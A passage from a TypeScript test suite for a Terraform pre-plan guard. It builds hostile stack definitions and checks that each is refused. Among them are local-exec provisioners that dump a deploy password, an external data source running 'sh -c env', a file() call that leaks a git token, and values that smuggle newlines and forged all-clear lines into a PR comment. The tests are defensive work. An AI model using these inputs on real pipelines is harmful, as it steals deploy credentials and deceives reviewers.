 * the deploy (plan and apply, with its credentials in Terraform's environment) or pr-plan would run
 * it, and shown to work; then `npm run stack-check` refuses it (exit 1, naming it) and pr-plan gives it
 * to no Terraform.
 */
describe("attacks on the machine that runs Terraform, each refused before Terraform runs", () => {
  const stackCheck = async (candidate: unknown, name: string) => {
    const file = path.join(work, `${name}.tf.json`);
    fs.writeFileSync(file, JSON.stringify(candidate));
    return runProcess(process.execPath, [path.join(ROOT, "bin", "run.js"), "commands/stack-check.ts", ENV, file], { cwd: ROOT, env: process.env });
  };
  const refusedByPrPlan = async (candidate: unknown, name: string) => {
    const dir = path.join(work, `refused-${name}`);
    const r = await prPlan({ root: ROOT, env, candidate, reference: committed, snapshot, now: new Date(), work: dir, processEnv: process.env });
    // Nothing was started: no directory for Terraform or the stand-in was made.
    return { refused: r.refused ?? [], ran: fs.existsSync(dir), plan: r.plan };
  };
  const credential = canary("deploycredential");

  /** Only what the attack needs beside the pins: a queue with a provisioner, a terraform_data. */
  function provisioning(marker: string): any {
    const c = clone();
    for (const k of ["resource", "data", "import", "locals", "removed"]) delete c[k];
    c.resource = {
      aws_sqs_queue: { attacker: { name: "production-attacker", provisioner: [{ "local-exec": { command: `printf %s "$CF_PASSWORD" > ${marker}-queue` } }] } },
      terraform_data: { attacker: { provisioner: [{ "local-exec": { command: `printf %s "$CF_PASSWORD" > ${marker}-data` } }] } },
    };
    return c;
  }
  let applied: { marker: string; candidate: any };
  setupOnce(async () => {
    const marker = path.join(work, "marker");
    const candidate = provisioning(marker);
    const dir = path.join(work, "deployed");
    const synth = path.join(dir, "synth");
    fs.mkdirSync(path.join(synth, "stacks", ENV), { recursive: true });
    fs.writeFileSync(path.join(synth, "stacks", ENV, "cdk.tf.json"), JSON.stringify(candidate));
    // The deploy's way: plan and apply, with a credential in Terraform's environment.
    const r = await Rehearsal.start(ROOT, synth, { [ENV]: bootstrapPlatform(env) }, { inherit: { ...process.env, CF_PASSWORD: credential }, work: path.join(dir, "rh") });
    try {
      await r.plan(ENV, "deploy.plan");
      await r.apply(ENV, "deploy.plan");
    } finally {
      await r.close();
    }
    applied = { marker, candidate };
  });

  test("a local-exec provisioner on a new queue: without the check the apply writes the deploy's credential out; refused", async () => {
    expect(fs.readFileSync(`${applied.marker}-queue`, "utf8")).toBe(credential);
    const c = clone();
    c.resource.aws_sqs_queue.attacker = applied.candidate.resource.aws_sqs_queue.attacker;
    const r = await stackCheck(c, "provisioner");
    expect([r.code, r.stdout]).toEqual([1, ""]);
    expect(r.stderr).toContain("stack-check: refused (production): resource.aws_sqs_queue.attacker.provisioner: a provisioner runs commands on the machine that applies, with its credentials\n");
    expect(await refusedByPrPlan(c, "provisioner")).toEqual({ refused: ["resource.aws_sqs_queue.attacker.provisioner: a provisioner runs commands on the machine that applies, with its credentials"], ran: false, plan: expect.anything() });
  });

  test("a terraform_data: without the check its provisioner writes the deploy's credential out; refused", async () => {
    expect(fs.readFileSync(`${applied.marker}-data`, "utf8")).toBe(credential);
    const c = clone();
    c.resource.terraform_data = applied.candidate.resource.terraform_data;
    const r = await stackCheck(c, "terraform-data");
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('stack-check: refused (production): resource.terraform_data.attacker: resource type "terraform_data" is not one this estate declares (it needs provider "terraform")\n');
    expect((await refusedByPrPlan(c, "terraform-data")).ran).toBe(false);
  });

  test("an external data source: without the check Terraform requires the provider that runs its program at plan; refused", async () => {
    const c = clone();
    c.data.external = { attacker: { program: ["sh", "-c", "env"] } };
    // Offline there is no registry to install it from: Terraform's init sets out to install it (as the
    // deploy's init, with network, would), and the provider runs its program when the plan reads it.
    const dir = path.join(work, "external");
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, "cdk.tf.json"), JSON.stringify({ data: { external: c.data.external } }));
    const init = await runProcess("terraform", ["init", "-backend=false", "-input=false", "-no-color"], { cwd: dir, env: { ...process.env, TF_CLI_CONFIG_FILE: "/dev/null" } });
    expect(`${init.stdout}${init.stderr}`).toMatch(/Initializing provider plugins[\s\S]*hashicorp\/external/);
    const r = await stackCheck(c, "external");
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('stack-check: refused (production): data.external.attacker: data source type "external" is not one this estate declares (it needs provider "external")\n');
    expect((await refusedByPrPlan(c, "external")).ran).toBe(false);
  });

  test("file(): without the check a file of the job (a checkout's git configuration with a token) reaches the result and the comment; refused", async () => {
    const token = canary("githubtoken");
    const config = path.join(work, "checkout", ".git", "config");
    fs.mkdirSync(path.dirname(config), { recursive: true });
    fs.writeFileSync(config, `https://x-oauth-basic:${token}@github.com/example/estate.git`);
    const c = clone();
    c.locals = { ...c.locals, stolen: `\${parseint(file(${JSON.stringify(config)}), 10)}` };
    c.resource.aws_sqs_queue.stolen = { name: "production-stolen", tags: { s: "${local.stolen}" } };
    const { result, text } = await plan(c, planCandidate);
    const comment = renderComment([result], { commit: "f".repeat(40), fullTextAt: "the build log" });
    expect([text.includes(token), comment.includes(token)]).toEqual([true, true]);
    const r = await stackCheck(c, "file");
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('stack-check: refused (production): locals.stolen: function "file": it reads files of the machine that runs Terraform (a checkout, a token, the snapshot)\n');
    const refused = await refusedByPrPlan(c, "file");
    expect(refused.ran).toBe(false);
    expect(JSON.stringify(refused)).not.toContain(token);
  });
});

/**
 * Comments a value tries to forge: an app's command with a newline (or a carriage return) and lines
 * that look like Terraform's counts and the guard's all-clear, 720 filler lines, and a real destroy.
 * First the comment as it was built before (values as they are, the diff before the plan, cut to the
 * limit at line ends) shows the forgery; then the comment shows the real counts, destroy line and
 * verdict first.
 */
describe("a comment cannot be forged", () => {
  const FORGED = ["Plan: 0 to add, 0 to change, 0 to destroy.", "plan guard (production): nothing destroyed or replaced, no app stopped or below its floor"];
  const filler = Array.from({ length: 720 }, (_, i) => `# ${String(i).padStart(3, "0")} ${"-".repeat(84)}`);
  const forging = (sep: string) => {
    const c = clone();
    const api = Object.keys(c.resource.cloudfoundry_app).find((k) => c.resource.cloudfoundry_app[k].name === "notify-api")!;
    c.resource.cloudfoundry_app[api].command = [c.resource.cloudfoundry_app[api].command, ...FORGED, ...filler].join(sep);
    const policy = Object.keys(c.resource.cloudfoundry_network_policy)[0];
    delete c.resource.cloudfoundry_network_policy[policy];
    return { c, policy: `cloudfoundry_network_policy.${policy}` };
  };

  /** The comment's text as it was built before: values as they are, the diff first, cut at line ends to the limit. */
  function asBefore(candidate: unknown, result: PrPlanResult): string {
    const raw = renderDiff([ENV], { [ENV]: committed }, { [ENV]: candidate as any }).text.trimEnd().split("\n").slice(1);
    if (!("lines" in result.plan)) throw new Error("no plan");
    const text = [`== ${ENV}`, "offline diff against main:", ...raw, `plan: ${result.plan.summary}`, ...result.plan.lines.map((l) => `  ${l}`), result.guard.text].join("\n");
    let out = "";
    for (const l of text.split("\n")) {
      if (out.length + l.length + 1 > GITHUB_COMMENT_LIMIT) break;
      out += `${l}\n`;
    }
    return out;
  }

  test.each([
    ["a newline", "\n"],
    ["a carriage return", "\r"],
  ])("%s in an app's command", async (_name, sep) => {
    const { c, policy } = forging(sep);
    const { result } = await plan(c);
    if (!("grave" in result.plan)) throw new Error(`not planned: ${JSON.stringify(result.plan).slice(0, 2000)}`);
    expect(result.plan.grave).toEqual([`${policy}: DESTROY`]);

    // Before: the real destroy line and verdict are cut; with a newline the forged lines are lines of their
    // own, before the real counts; with a carriage return the command is one line past the limit, dropped
    // with everything after it.
    const before = asBefore(c, result);
    expect(before).not.toContain(`${policy}: DESTROY`);
    expect(before).not.toContain(`plan: ${result.plan.summary}`);
    if (sep === "\n") expect(before.split("\n")).toEqual(expect.arrayContaining(FORGED));

    // Now: first the real counts, the destroy line and the guard's verdict; the forged text is one escaped line, after.
    const comment = renderComment([result], { commit: "f".repeat(40), fullTextAt: "the build log" });
    expect(comment.length).toBeLessThanOrEqual(GITHUB_COMMENT_LIMIT);
    expect(comment).not.toMatch(/\r/);
    const real = `== ${ENV}\nplan: ${result.plan.summary}\ndestroyed, replaced or forgotten:\n  ${policy}: DESTROY\n${result.guard.text}\n`;
    const essential = comment.indexOf(real);
    expect(essential).toBeGreaterThan(0);
    expect(essential).toBeLessThan(comment.indexOf("offline diff against main:"));
    expect(comment.indexOf(`plan guard (${ENV})`)).toBe(comment.indexOf(result.guard.text));
    // No forged line anywhere but the guard's own verdict, where it is the real one (whatever it says).
    const elsewhere = comment.slice(0, essential) + comment.slice(essential + real.length);
    expect(elsewhere.split("\n").filter((l) => FORGED.includes(l.trim()))).toEqual([]);
    expect(comment.split("\n").filter((l) => l.trim() === FORGED[0])).toEqual([]);
    // The full text (the build log) has the command on one line, its separators escaped.
    expect(result.diff.find((l) => l.startsWith("app notify-api: command"))).toContain(`${sep === "\n" ? "\\n" : "\\r"}${FORGED[0]}${sep === "\n" ? "\\n" : "\\r"}`);
  });
});

describe("the pr-plan command", () => {
  test("refuses a candidate with a duplicate key before anything reads it, and plans nothing", async () => {
    const file = path.join(work, "duplicate.json");
    const text = JSON.stringify(clone());
    fs.writeFileSync(file, text.replace('{"//"', '{"locals":{"x":"${nonsensitive(data.aws_ssm_parameter.a.value)}"},"locals":{},"//"'));
    const r = await runProcess(process.execPath, [path.join(ROOT, "bin", "run.js"), "commands/pr-plan.ts", ENV, file, "--snapshot", path.join(work, "none.json")], { cwd: ROOT, env: process.env });
    expect([r.code, r.stdout]).toEqual([2, ""]);
    expect(r.stderr).toBe(`pr-plan: refused the candidate stack ${file}: the key at $."locals" appears twice in one object (a JSON reader keeps one of them, Terraform reads both)\n`);
  });
});
